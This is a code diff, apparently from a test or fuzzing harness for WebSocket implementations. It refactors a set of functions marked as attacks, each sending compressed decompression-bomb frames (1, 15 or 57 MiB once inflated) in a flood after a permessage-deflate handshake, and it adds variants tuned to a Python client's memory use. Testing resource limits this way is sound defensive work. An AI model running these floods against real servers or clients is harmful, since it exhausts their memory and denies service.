@@ -180,30 +180,39 @@ def compressed(data: bytes, times: int = 1) -> bytes:
     return payload[:-4]
 
 
-@attack
-def ws_bomb(peer: Peer) -> None:
-    """Messages of 57 MiB zeros, each of which is below the limit; 17 of them are 1 MB."""
-    message = frame(FIN | RSV1 | BINARY, compressed(bytes(MIB), 57))
+def bomb(peer: Peer, opcode: int, block: bytes, mebibytes: int) -> None:
+    message = frame(FIN | RSV1 | opcode, compressed(block, mebibytes))
     handshake(peer, DEFLATE)
     peer.drain()
     peer.flood(message)
+
+
+@attack
+def ws_bomb(peer: Peer) -> None:
+    """Messages of 57 MiB zeros, each of which is below the limit; 17 of them are 1 MB."""
+    bomb(peer, BINARY, bytes(MIB), 57)
 
 
 @attack
 def ws_bomb_text(peer: Peer) -> None:
-    message = frame(FIN | RSV1 | TEXT, compressed(b"a" * MIB, 57))
-    handshake(peer, DEFLATE)
-    peer.drain()
-    peer.flood(message)
+    bomb(peer, TEXT, b"a" * MIB, 57)
+
+
+@attack
+def ws_bomb_15(peer: Peer) -> None:
+    """Below the limit of a client in Python, which holds several copies."""
+    bomb(peer, BINARY, bytes(MIB), 15)
+
+
+@attack
+def ws_bomb_text_15(peer: Peer) -> None:
+    bomb(peer, TEXT, b"a" * MIB, 15)
 
 
 @attack
 def ws_bomb_small(peer: Peer) -> None:
     """Messages that become 1 MiB each."""
-    message = frame(FIN | RSV1 | BINARY, compressed(bytes(MIB)))
-    handshake(peer, DEFLATE)
-    peer.drain()
-    peer.flood(message)
+    bomb(peer, BINARY, bytes(MIB), 1)
 
 
 @attack
